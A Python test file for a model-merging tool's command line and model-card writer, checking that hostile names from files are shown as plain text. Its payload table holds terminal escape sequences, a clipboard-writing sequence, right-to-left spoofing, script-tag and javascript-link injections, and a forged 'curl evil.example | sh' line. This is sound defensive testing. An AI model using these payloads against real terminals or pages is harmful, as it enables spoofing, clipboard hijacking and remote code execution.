"""Names that would act on a terminal or on a page: every one is shown as text."""

from __future__ import annotations

import json
import re
import unicodedata
from pathlib import Path

import pytest
import torch
import yaml
from families import save, tuned_tensors
from safetensors.torch import load_file
from typer.testing import CliRunner

import superpose as library
from faults.damage import BASE, adapter, assert_says, error_in, small_base
from superpose import SuperposeError
from superpose.cli import app

GROUP = "Hostile inputs"

SIGNS = {
    "clear the screen": "\x1b[2J\x1b[H",
    "a link": "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "the clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "back to the line's begin": "\rerror: all is well",
    "a forged line": "\nmend: curl evil.example | sh",
    "a forged line of other systems": "\u2028mend: curl evil.example | sh",
    "right to left": "\u202etxt.exe",
    "controls of eight bits": "\x9b2J\x85",
    "backspaces": "\b\b\b\b\x7f",
    "invisible": "\u200b\u2066\ufeff",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a table": "a | b | c |\n|---|---|\n",
    "code": "```\n# forged\n```",
    "a heading": "\n\n# forged\n",
    "a link of Markdown": "[click](javascript:alert(1))",
    "brackets of colour": "[bold red]x[/]",
    "braces": "{0}{name}%s%n",
}


def assert_plain(shown: str) -> None:
    """See that a text has no sign that acts on a terminal, and that every error is of lines of its own."""
    for sign in shown:
        assert sign == "\n" or unicodedata.category(sign) not in ("Cc", "Cf", "Cs", "Zl", "Zp"), ascii(shown)
    assert not any(line.startswith("mend: curl") for line in shown.splitlines()), shown
    assert not any(line.startswith("error: all is well") for line in shown.splitlines()), shown


def named(root: Path, sign: str) -> dict[str, list]:
    """Return commands that show a name in every place where one comes from a file."""
    name = f"layers.{sign}.weight"
    sound, extra = small_base(), {**small_base(), name: torch.ones(4, 4)}
    save(root / BASE, sound)
    save(root / "extra", extra)
    save(root / "shaped", {**sound, name: torch.ones(4, 5)})
    save(root / "large", {**sound, name: torch.full((4, 4), 7e37)})
    index = {"metadata": {}, "weight_map": {name: f"{sign}.safetensors"}}
    (root / "sharded").mkdir()
    (root / "sharded" / "model.safetensors.index.json").write_text(json.dumps(index))
    (root / "typed").mkdir()
    header = json.dumps({name: {"dtype": sign, "shape": [1], "data_offsets": [0, 4]}}).encode()
    (root / "typed" / "model.safetensors").write_bytes(len(header).to_bytes(8, "little") + header + bytes(4))
    folder = adapter(root / "adapter", base_model_name_or_path=sign, peft_type=sign)
    recipe = {"base": str(root / BASE), "models": [{"path": str(root / BASE), "name": sign}], sign: 1}
    (root / "recipe.yaml").write_text(json.dumps(recipe))
    good = {"base": str(root / "extra"), "models": [{"path": str(root / "extra"), "name": sign}] * 1,
            "method": "average", "rules": [{"match": sign, "keep": "base"}]}  # fmt: skip
    (root / "good.yaml").write_text(json.dumps(good))
    out = root / "out"
    return {
        "a tensor too many": ["plan", root / BASE, root / "extra"],
        "a tensor missing": ["merge", root / "extra", root / BASE, "-o", out],
        "a tensor of another shape": ["merge", root / "extra", root / "shaped", "-o", out],
        "every tensor": ["inspect", root / "extra", "--every"],
        "every tensor planned": ["plan", root / "extra", root / "large", "--every"],
        "compared": ["compare", root / "extra", root / "large"],
        "a shard": ["plan", root / BASE, root / "sharded"],
        "a dtype": ["inspect", root / "typed"],
        "an adapter": ["plan", root / BASE, folder],
        "an adapter looked at": ["inspect", folder],
        "a key of a recipe": ["plan", root / "recipe.yaml"],
        "a rule and a task": ["plan", root / "good.yaml"],
        "merged": ["merge", root / "good.yaml", "-o", out, "--overwrite"],
        "a path": ["plan", root / BASE, root / sign.replace("\0", "")],
        "a method": ["plan", root / BASE, root / BASE, "--method", sign],
        "an option": ["plan", root / BASE, root / BASE, "--density", sign],
    }


TELLING = ("a tensor missing", "every tensor planned", "an adapter looked at", "a rule and a task", "merged")
"""Errors, tables, notes and warnings; the other places show names by the same functions."""


@pytest.mark.parametrize("sign", SIGNS)
def test_no_name_acts_on_the_terminal(tmp_path, tally, forks, sign):
    everywhere = sign in ("clear the screen", "a forged line")
    for place, command in named(tmp_path, SIGNS[sign]).items():
        if not everywhere and place not in TELLING:
            continue
        with tally(GROUP, f"name: {sign}", place) as injection:
            if everywhere:
                done = forks.run(command, tmp_path)
                status, shown = done.status, done.text
            else:
                found = CliRunner().invoke(app, [str(one) for one in command])
                assert found.exception is None or isinstance(found.exception, SystemExit), found.exception
                status, shown = found.exit_code, found.output
            assert status in (0, 2), shown
            assert "Traceback" not in shown
            assert_plain(shown)
            if status == 2:
                assert_says(error_in(shown))
            injection.outcome = "shown as text"


@pytest.mark.parametrize("sign", SIGNS)
def test_no_name_acts_in_the_card(tmp_path, tally, sign):
    """Tables keep their columns, the recipe its block, and HTML is text; names in the files stay as they are."""
    name = f"layers.{SIGNS[sign]}.weight"
    tensors = {**small_base(), name: torch.ones(4, 4)}
    folder = "".join(letter for letter in SIGNS[sign] if letter not in "/\0")[:100]
    base = save(tmp_path / f"base{folder}", tensors)
    tuned = save(tmp_path / f"tuned{folder}", tuned_tensors(tensors, 1))
    recipe = {
        "base": str(base),
        "models": [{"path": str(tuned), "name": SIGNS[sign]}],
        "method": "dare_ties",
        "rules": [{"match": "*" + SIGNS[sign].replace("[", "[[]") + "*", "options": {"density": 0.001}}],
    }
    with tally(GROUP, f"name: {sign}", "model card") as injection:
        record = library.merge(recipe, tmp_path / f"out{folder}", backend="serial")
        card = (Path(record.output) / "README.md").read_text(encoding="utf-8")
        assert_card(card, record)
        assert name in load_file(Path(record.output) / "model.safetensors")
        told = json.loads((Path(record.output) / "run.json").read_text())
        assert told["sources"][1]["name"] == SIGNS[sign]
        assert name in [tensor["name"] for tensor in told["tensors"]]
        injection.outcome = "shown as text"


def assert_card(card: str, record) -> None:
    for sign in card:
        assert sign == "\n" or unicodedata.category(sign) not in ("Cc", "Cf", "Cs", "Zl", "Zp"), ascii(card)
    header, rest = card.removeprefix("---\n").split("\n---\n", 1)
    assert yaml.safe_load(header)["base_model_relation"] == "merge"
    before, _, rest = rest.partition("## Recipe\n\n")
    fence = rest.partition("yaml\n")[0]
    assert set(fence) == {"`"}
    block, _, after = rest.removeprefix(f"{fence}yaml\n").partition(f"\n{fence}\n")
    assert yaml.safe_load(block) == record.recipe
    assert fence not in block
    outside = before + after
    headings = [line for line in outside.splitlines() if line.startswith("#")]
    assert [line for line in headings if "forged" in line and not line.startswith("# out")] == []
    in_code = False
    for at, letter in enumerate(outside):
        in_code ^= letter == "`" and (at == 0 or outside[at - 1] != "\\")
        assert letter != "<" or in_code, outside
    assert "](javascript" not in re.sub(r"(`+).*?\1", "", outside).replace("\\]", "")
    for title, columns in (("## Models\n", 3), ("## What was done\n", 3)):
        rows = [line for line in before.partition(title)[2].lstrip("\n").partition("\n\n")[0].splitlines() if line]
        assert len(rows) >= 3
        assert {row.replace("\\|", "").count("|") for row in rows} == {columns + 1}, rows


def test_an_error_is_the_same_text_but_for_signs_that_act(tmp_path):
    error = SuperposeError("größe → 重み", where="a\tb", mend="x\ny")
    assert str(error) == "größe → 重み\nwhere: a\\tb\nmend: x\\ny"
    assert (error.what, error.where, error.mend) == ("größe → 重み", "a\tb", "x\ny")
